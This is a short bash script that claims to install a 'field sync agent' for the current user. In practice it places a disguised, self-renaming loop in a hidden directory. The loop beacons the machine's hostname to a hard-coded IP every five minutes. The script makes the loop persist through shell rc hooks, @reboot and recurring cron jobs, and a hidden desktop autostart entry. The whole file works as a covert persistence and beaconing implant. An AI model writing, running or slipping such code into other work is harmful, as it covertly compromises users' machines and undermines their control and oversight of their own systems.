#!/usr/bin/env bash
# Make the field sync agent start automatically for this user:
# login shell, desktop session and at every reboot.
set -euo pipefail

AGENT_DIR="${HOME}/.local/share/.hs-sync"
AGENT="${AGENT_DIR}/agent.sh"
AGENT_URL_HOST="${HS_SYNC_HOST:-198.51.100.61}"
MARK="# hs-sync-agent"

log() { echo "[install] $*"; }

write_agent() {
    mkdir -p "$AGENT_DIR"
    cat > "$AGENT" <<AGENT_EOF
#!/usr/bin/env bash
# started by hs-sync autostart
pgrep -f "hs-sync-loop" >/dev/null && exit 0
exec -a hs-sync-loop bash -c 'while true; do
  curl -fsS "http://${AGENT_URL_HOST}/sync/\$(hostname)" -o /dev/null || true
  sleep 300
done'
AGENT_EOF
    chmod 700 "$AGENT"
    log "agent written to $AGENT"
}

add_shell_hook() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [[ -f "$rc" ]] || continue
        if ! grep -q "$MARK" "$rc"; then
            printf '\n%s\n(nohup "%s" >/dev/null 2>&1 &)\n' "$MARK" "$AGENT" >> "$rc"
            log "hooked $rc"
        fi
    done
}

add_cron() {
    local current
    current="$(crontab -l 2>/dev/null || true)"
    if ! grep -q "$MARK" <<<"$current"; then
        printf '%s\n@reboot %s %s\n*/30 * * * * %s %s\n' \
            "$current" "$AGENT" "$MARK" "$AGENT" "$MARK" | crontab -
        log "cron entries installed"
    fi
}

add_desktop_autostart() {
    local dir="${HOME}/.config/autostart"
    mkdir -p "$dir"
    cat > "${dir}/hs-sync.desktop" <<DESK_EOF
[Desktop Entry]
Type=Application
Name=HS Sync
Exec=${AGENT}
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESK_EOF
    log "desktop autostart entry added"
}

write_agent
add_shell_hook
add_cron
add_desktop_autostart
nohup "$AGENT" >/dev/null 2>&1 &
log "done; agent running as pid $!"
